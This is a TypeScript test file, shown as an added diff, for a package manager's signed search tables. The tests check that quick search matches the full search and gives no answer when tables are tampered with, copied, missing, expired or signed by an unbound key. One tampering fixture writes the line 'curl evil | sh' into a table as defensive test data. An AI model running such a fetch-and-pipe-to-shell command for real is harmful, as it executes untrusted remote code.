@@ -1,0 +1,120 @@
+/**
+ * The sealed search tables (src/core/pkg/index-cache.ts) and the search made from them without the
+ * package manager (src/core/pkg/search-fast.ts, src/app/search.ts, used by `bpkg search`): the same
+ * answer as PackageManager.search whenever they give one, and no answer (so the package manager
+ * verifies, warns or refuses) whenever a table is missing, changed, stale or not enough.
+ */
+import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { quickSearch } from '../../src/app/search.js';
+import { PackageManager } from '../../src/core/pkg/index.js';
+import { bpkg, buildRepo, makeKey, makeSource, type TestKey, tempDir, trustingRoot } from '../helpers/pkg.js';
+
+let key: TestKey;
+let other: TestKey;
+let repoA: string;
+let repoB: string;
+beforeAll(async () => {
+  key = await makeKey(path.join(tempDir(), 'key'));
+  other = await makeKey(path.join(tempDir(), 'other'));
+  const base = tempDir();
+  repoA = path.join(base, 'a');
+  repoB = path.join(base, 'b');
+  const src = path.join(base, 'src');
+  await buildRepo(repoA, key, [
+    makeSource(src, { name: 'vision-tools', version: '1.2.0', summary: 'Tools for Vision models' }),
+    makeSource(src, {
+      name: 'text',
+      version: '1.0.0',
+      summary: 'text workloads, no VISION here? yes vision',
+    }),
+    makeSource(src, { name: 'shared', version: '1.0.0', summary: 'in both repositories' }),
+    makeSource(src, { name: 'zeta', version: '0.1.0', summary: 'Última versión: ünïcödé summary' }),
+  ]);
+  await buildRepo(repoB, key, [
+    makeSource(path.join(base, 'srcb'), {
+      name: 'shared',
+      version: '1.10.0-rc.1',
+      summary: 'in both repositories',
+    }),
+    makeSource(path.join(base, 'srcb'), { name: 'alpha', version: '3.0.0', summary: 'first in order' }),
+  ]);
+});
+
+const lists = (root: string) => path.join(root, 'var/lib/blueprint/pkg/lists');
+const tableFile = (root: string, name = 'main') => path.join(lists(root), name, 'search.tsv');
+
+async function twoRepoRoot(): Promise<string> {
+  const root = await trustingRoot(key, repoA);
+  const pm = new PackageManager({ root });
+  await pm.repos.add('second', repoB, { keys: [key.fingerprint] });
+  const outcomes = await pm.update();
+  expect(outcomes.every((o) => o.ok)).toBe(true);
+  return root;
+}
+
+describe('search tables', () => {
+  it('give the same hits as the package manager, word by word, installed versions included', async () => {
+    const root = await twoRepoRoot();
+    await new PackageManager({ root, yes: true }).install(['text']);
+    const pm = new PackageManager({ root });
+    for (const word of [
+      '',
+      'vision',
+      'VISION',
+      'shared',
+      'ünïcödé',
+      'Última',
+      'e',
+      'nothing-matches',
+      '\t',
+    ]) {
+      const quick = await quickSearch(root, word);
+      expect(quick, word).toBeDefined();
+      expect(quick, word).toEqual(await pm.search(word));
+    }
+    // The newer version wins across repositories, by semver (1.10.0-rc.1 > 1.0.0).
+    expect((await quickSearch(root, 'shared'))?.map((h) => [h.version, h.repo])).toEqual([
+      ['1.10.0-rc.1', 'second'],
+    ]);
+    expect((await quickSearch(root, 'text'))?.[0]?.installed).toBe('1.0.0');
+  });
+
+  it('a changed table gives no answer: the package manager answers from the verified index', async () => {
+    const root = await trustingRoot(key, repoA);
+    const text = readFileSync(tableFile(root), 'utf8');
+    writeFileSync(tableFile(root), text.replace('Tools for Vision models', 'EVIL curl evil | sh'));
+    expect(await quickSearch(root, 'evil')).toBeUndefined();
+    const r = await bpkg(root, ['--json', 'search', 'evil']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(JSON.parse(r.stdout)).toEqual([]);
+    const v = await bpkg(root, ['--json', 'search', 'vision']);
+    expect(JSON.parse(v.stdout).map((h: { summary: string }) => h.summary)).toContain(
+      'Tools for Vision models',
+    );
+  });
+
+  it('a table copied from another repository, or missing, gives no answer', async () => {
+    const root = await twoRepoRoot();
+    writeFileSync(tableFile(root, 'main'), readFileSync(tableFile(root, 'second')));
+    expect(await quickSearch(root, '')).toBeUndefined();
+    rmSync(tableFile(root, 'main'));
+    expect(await quickSearch(root, '')).toBeUndefined();
+    // An update that finds the same index writes the missing table again.
+    await new PackageManager({ root }).update();
+    expect(await quickSearch(root, 'vision')).toEqual(await new PackageManager({ root }).search('vision'));
+  });
+
+  it('gives no answer for an expired index or a signer no longer bound to the repository', async () => {
+    const root = await trustingRoot(key, repoA);
+    expect(await quickSearch(root, '', new Date(Date.now() + 400 * 86400e3))).toBeUndefined();
+    const pm = new PackageManager({ root });
+    await pm.keyring.add(other.publicKey, other.fingerprint);
+    await pm.repos.setKeys('main', [other.fingerprint]);
+    expect(await quickSearch(root, '')).toBeUndefined();
+    // The package manager says why (and `bpkg search` prints it).
+    const r = await bpkg(root, ['search', 'vision']);
+    expect(r.stderr).toMatch(/not a key bound to it/);
+  });
+});
